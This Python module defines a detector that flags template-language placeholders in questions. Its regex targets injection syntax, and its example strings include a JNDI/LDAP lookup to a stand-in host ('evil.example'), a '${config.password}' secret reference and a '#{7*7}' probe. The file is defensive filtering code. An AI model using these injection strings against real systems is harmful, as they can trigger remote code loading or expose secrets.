"""template-placeholder: a placeholder that a careless program fills in."""

from __future__ import annotations

import re
from collections.abc import Iterator

from grammar.diagnostic import quote
from guard.scope.detector import Signal, Stage, View, Weight, detector

_PLACEHOLDER = re.compile(
    r"\{\{[^{}]{0,60}\}\}|\{%[^%]{0,60}%\}|\$\{ ?(?:jndi|env|sys|process|config|secrets?|system|self|java|script|request"
    r"|session) ?[.:\[]"
    r"|[#*]\{[^{}\n]{0,50}[.*(\[][^{}\n]{0,50}\}|<%[^%]{0,60}%>|\$\{\{"
)


@detector(
    Weight.DECISIVE,
    stage=Stage.TEXT,
    out_of_scope=[
        "list {{columns}}",
        "${jndi:ldap://evil.example/a}",
        "{% include 'secrets' %}",
        "errors ${config.password}",
        "#{7*7}",
    ],
    in_scope=[
        "POST /models/{owner}/{name}",
        "GET /models/${id} and #{id}",
        "errors with {}",
        "IF(GT($duration_ms, 5), 1, 0)",
        'url contains "{{"',
    ],
)
def template_placeholder(view: View) -> Iterator[Signal]:
    """The question contains a placeholder of a template language.

    A program that fills in its prompt in more than one pass would fill this in too, and print the result.
    """
    match = view.find(_PLACEHOLDER)
    if match is not None:
        yield Signal(f"the question contains a placeholder: {quote(match.group())}", match.span())
